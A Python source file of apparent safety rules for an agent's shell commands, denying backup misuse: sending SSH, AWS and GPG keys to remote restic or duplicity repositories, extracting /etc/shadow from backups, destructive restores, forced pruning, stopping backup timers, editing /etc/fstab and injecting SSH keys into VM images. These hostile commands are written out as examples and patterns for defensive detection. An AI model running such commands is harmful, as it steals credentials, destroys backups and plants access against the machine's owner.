"""Backups turned against the machine: secrets carried off or pulled out, restores that
overwrite, backups stopped, boot-time mounts changed.

- Keys and credentials (``~/.ssh``, ``~/.aws``, ``~/.gnupg``) put in a repository on another
  host (``restic -r rest:http://… backup ~/.ssh``, ``duplicity full ~/.gnupg sftp://…``).
- A secret taken out of a backup (``restic dump latest /etc/shadow``, ``restic restore
  --include /etc/shadow``, ``borg extract repo::a etc/shadow``): read past its permissions.
- A restore that deletes (``restic restore --delete --target ~``) or an extract run from ``/``
  or the home (``cd / && borg extract …``): files replaced by old ones, the rest removed.
- ``duplicity remove-older-than … --force``: old backups deleted (without ``--force`` it lists).
- ``systemctl disable|stop|mask`` of the backup units (``borgmatic.timer``): nothing is saved
  from then on, without anyone noticing.
- ``/etc/fstab`` changed so the home or a system folder is mounted over at boot (``tmpfs
  /home``) or its line deleted (``sed -i '/\\/home/d' /etc/fstab``).
- ``virt-customize --ssh-inject``/``--root-password`` on a VM's disk outside the workspace.

Each is denied; a repository on this machine, a target in the workspace or /tmp, or a name
only known when the line runs asks.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator

from workset.safety import paths
from workset.safety.rules.base import Cmd, Context, Handler, Result, deny_finding, parse_flags
from workset.safety.rules.db_targets import named_copy
from workset.safety.rules.mounts import hides
from workset.safety.rules.secret_paths import in_key_tree, is_secret
from workset.safety.rules.static import static_output

_REMOTE_REPO = re.compile(r"^(rest:|s3:|b2:|gs:|azure:|swift:|rclone:|sftp:|ssh://|\w+://|"
                          r"[\w.-]+@[\w.-]+:)")  # fmt: skip
_BACKS_UP = frozenset({"backup", "create", "full", "incremental", "incr"})
# Options whose value is the next word (a repository, a file, a pattern): not a verb or a path.
_VALUED = frozenset({"-r", "--repo", "--password-file", "--password-command", "--target", "-t",
                     "--include", "-i", "--exclude", "-e", "--tag", "--host", "--cache-dir",
                     "-o", "--option", "--archive-dir", "--name", "--exclude-file",
                     "--files-from", "--overwrite", "--encrypt-key", "--sign-key"})  # fmt: skip


def _words(cmd: Cmd) -> list[str]:
    """The verb and operands, without the options and the values they take."""
    args = cmd.args()
    return [a for i, a in enumerate(args) if not a.startswith("-")
            and (i == 0 or args[i - 1] not in _VALUED)]  # fmt: skip


def _secret(word: str, ctx: Context) -> bool:
    place = paths.normalize(ctx.resolve(word))
    if paths.in_workspace(place, ctx.workspace):
        return False  # a fixture named like a secret (./.env): the project's own file
    return is_secret(place) or in_key_tree(place)


def _repo(cmd: Cmd) -> str:
    args = cmd.args()
    for index, word in enumerate(args):
        if word in ("-r", "--repo") and index + 1 < len(args):
            return args[index + 1]
        if word.startswith("--repo="):
            return word.split("=", 1)[1]
    return next((a.split("::")[0] for a in args if "::" in a or _REMOTE_REPO.match(a)), "")


def _secrets_sent(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """``restic -r rest:http://host/x backup ~/.ssh``, ``duplicity full ~/.gnupg sftp://…``."""
    words = _words(cmd)
    if not words or words[0] not in _BACKS_UP:
        return
    repo = _repo(cmd)
    if not _REMOTE_REPO.match(repo) or re.search(r"//(localhost|127\.|\[::1\])", repo):
        return
    secret = next((w for w in words[1:] if _secret(w, ctx)), None)
    if secret is not None:
        yield deny_finding(
            "secrets-backed-up-away",
            f"{cmd.name} {words[0]} puts {secret}, keys or credentials, in a repository on "
            f"another host ({repo})",
            "back up the project's own files; keys are backed up by the user",
        )


_EXTRACTS = frozenset({"dump", "restore", "extract", "cat", "mount"})


def _secret_restored(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """``restic dump latest /etc/shadow``, ``borg extract repo::a etc/shadow``."""
    args = cmd.args()
    words = _words(cmd)
    if not words or words[0] not in _EXTRACTS:
        return
    named = [
        *words[1:],
        *[a.split("=", 1)[1] for a in args if a.startswith("--include=")],
        *[args[i + 1] for i, a in enumerate(args[:-1]) if a in ("--include", "-i")],
    ]
    secret = next((w for w in named if "::" not in w and _secret("/" + w.lstrip("/"), ctx)), None)
    if secret is not None:
        yield deny_finding(
            "secret-from-backup",
            f"{cmd.name} {words[0]} takes {secret}, a key or credential file, out of the "
            "backup, past the permissions that guard it on the machine",
            "restore the project's own files; secrets are restored by the user",
        )
    target = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("--target", "-t")), "")
    place = paths.normalize(ctx.resolve(target)) if target else ""
    if words[0] == "restore" and "--delete" in args and place and not _spare(place, ctx):
        yield deny_finding(
            "restore-overwrite",
            f"{cmd.name} restore --delete over {target} replaces its files with old ones and "
            "deletes every file the snapshot lacks",
            "restore into a folder of the workspace and copy back what is needed",
        )
    here = paths.normalize(ctx.cwd) if ctx.cwd else ""
    live = here == "/" or (here and (paths.is_system(here) or here in ("~", "/root")))
    dry = {"-n", "--dry-run"} & set(args)
    if cmd.name == "borg" and words[0] == "extract" and not dry and live:
        yield deny_finding(
            "restore-overwrite",
            f"borg extract run from {here} writes the archive's files over the live "
            "system's or home's",
            "extract into a folder of the workspace and copy back what is needed",
        )


def _spare(place: str, ctx: Context) -> bool:
    return (
        paths.in_workspace(place, ctx.workspace)
        or paths.is_scratch(place)
        or named_copy(*place.split("/"))
    )


_PRUNES = ("remove-older-than", "remove-all-but-n-full", "remove-all-inc-of-but-n-full")


def _duplicity_prune(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """``duplicity remove-older-than 1s --force sftp://…``."""
    words = [a for a in cmd.args() if not a.startswith("-")]
    if words and words[0] in _PRUNES and "--force" in cmd.args():
        yield deny_finding(
            "backup-destroy",
            f"duplicity {words[0]} --force deletes backups, the copies a mistake would be "
            "recovered from",
            "run it without --force to list what would go, and ask the user",
        )


def _duplicity(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    yield from _secrets_sent(cmd, ctx)
    yield from _duplicity_prune(cmd, ctx)


_BACKUP_UNIT = re.compile(r"(^|[-_.@])(backups?|borg|borgmatic|restic|kopia|duplicity|"
                          r"duplicati|sanoid|syncoid|zrepl|snapper|timeshift|rsnapshot|"
                          r"bacula|urbackup)([-_.@]|$)", re.I)  # fmt: skip


def _backups_stopped(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """``systemctl disable --now borgmatic.timer restic-backup.timer``."""
    _, operands = parse_flags(cmd.args())
    words = [w for _, w in operands]
    if not words or words[0] not in ("disable", "stop", "mask") or any(cmd.dynamic):
        return
    units = [w for w in words[1:] if _BACKUP_UNIT.search(w) and not named_copy(w)]
    if units:
        yield deny_finding(
            "backups-stopped",
            f"systemctl {words[0]} {' '.join(units)} stops the scheduled backups: nothing is "
            "saved from then on, and no one is told",
            "leave the backup schedule alone, or ask the user to change it",
        )


_TABLES = re.compile(r"^/etc/(fstab|crypttab)$")


def _boot_mounts(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """``echo 'tmpfs /home tmpfs defaults 0 0' | tee -a /etc/fstab``, ``sed -i '/\\/home/d'
    /etc/fstab``."""
    if cmd.name == "sed":
        yield from _fstab_deleted(cmd, ctx)
        return
    if cmd.name == "tee":
        text = static_output(cmd.upstream)
        targets = [w for _, w in parse_flags(cmd.args())[1]]
    else:
        text = static_output([dataclasses.replace(cmd, redirects=())])
        targets = [t for op, t in cmd.redirects if op in (">", ">>", ">|")]
    table = next((t for t in targets if _TABLES.match(paths.normalize(ctx.resolve(t)))), None)
    if text is None or table is None:
        return
    for line in text.splitlines() if table.endswith("fstab") else ():
        fields = line.split()
        hidden = len(fields) >= 3 and _mounted_over(fields[1], ctx, fields[2])
        if not fields[0].startswith("#") and hidden:
            yield deny_finding(
                "boot-mount-over",
                f"the line added to {table} mounts {fields[0]} over {fields[1]} at every boot, "
                "hiding the files there",
                "mount into a folder of the workspace, or ask the user to change the table",
            )
            return


# The folders the system and its users live in: another filesystem over them hides them all.
_CORE = frozenset({"/", "/home", "/etc", "/usr", "/boot", "/bin", "/sbin", "/lib", "/root",
                   "/var", "~"})  # fmt: skip
# Filesystems that hold nothing of their own, or another folder's files.
_HIDING = frozenset({"tmpfs", "ramfs", "none", "bind", "overlay"})


def _mounted_over(place: str, ctx: Context, kind: str = "") -> bool:
    """``place`` is the system's or a user's own folder (any filesystem there hides it), or
    is hidden by an empty or borrowed one (``tmpfs /etc``; a new disk on /var/lib/docker is
    ordinary)."""
    place = place.rstrip("/") or "/"
    if place in _CORE or paths.is_user_folder(place, ctx.workspace):
        return True
    return kind in _HIDING and place.startswith("/") and hides(place, ctx)


_DELETE_LINE = re.compile(r"^\\?/(?P<pattern>.+)/d$|^\\(?P<sep>.)(?P<other>.+)(?P=sep)d$")


def _fstab_deleted(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    flags, operands = parse_flags(cmd.args())
    if not flags & {"i", "--in-place"} or len(operands) < 2:
        return
    table = next((w for _, w in operands[1:] if _TABLES.match(paths.normalize(ctx.resolve(w)))),
                 None)  # fmt: skip
    found = _DELETE_LINE.match(operands[0][1])
    if table is None or found is None:
        return
    pattern = (found.group("pattern") or found.group("other")).replace("\\/", "/").strip("^$ ")
    places = re.findall(r"(?<![\w.-])/[\w/.-]*", pattern)
    if any(p.rstrip("/") in ("", "/home", "/boot", "/usr", "/var", "/boot/efi") or
           _mounted_over(p, ctx) for p in places):  # fmt: skip
        yield deny_finding(
            "boot-mount-removed",
            f"sed deletes the line of {table} that mounts {places[0]} at boot: the machine "
            "then starts without it, or not at all",
            "comment the line out after the user agrees, or ask the user",
        )


_PLANTS = frozenset({"--ssh-inject", "--root-password", "--password", "--run-command",
                     "--firstboot-command", "--firstboot", "--run"})  # fmt: skip


def _image_planted(cmd: Cmd, ctx: Context) -> Iterator[Result]:
    """``virt-customize -a /var/lib/libvirt/images/web.qcow2 --ssh-inject 'root:string:…'``."""
    args = cmd.args()
    images = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-a", "--add", "-d",
                                                                    "--domain")]  # fmt: skip
    plant = next((a.split("=", 1)[0] for a in args if a.split("=", 1)[0] in _PLANTS), None)
    if plant is None or not images or any(cmd.dynamic):
        return
    if all(
        _spare(paths.normalize(ctx.resolve(i)), ctx) if "/" in i else named_copy(i) for i in images
    ):
        return
    yield deny_finding(
        "vm-image-planted",
        f"{cmd.name} {plant} writes a login key, a password or a program into the disk of the "
        f"virtual machine {images[0]}, which then lets someone in or runs it at boot",
        "customise a copy of the image in the workspace, or ask the user",
    )


HANDLERS: dict[str, Handler] = {
    **{n: _secrets_sent for n in ("restic", "borg", "duplicity", "kopia", "rustic")},
    "duplicity": _duplicity,
    "systemctl": _backups_stopped,
    **{n: _boot_mounts for n in ("tee", "echo", "printf", "sed")},
    **{n: _image_planted for n in ("virt-customize", "virt-sysprep")},
}
RESTORES: dict[str, Handler] = {n: _secret_restored for n in ("restic", "borg", "rustic")}
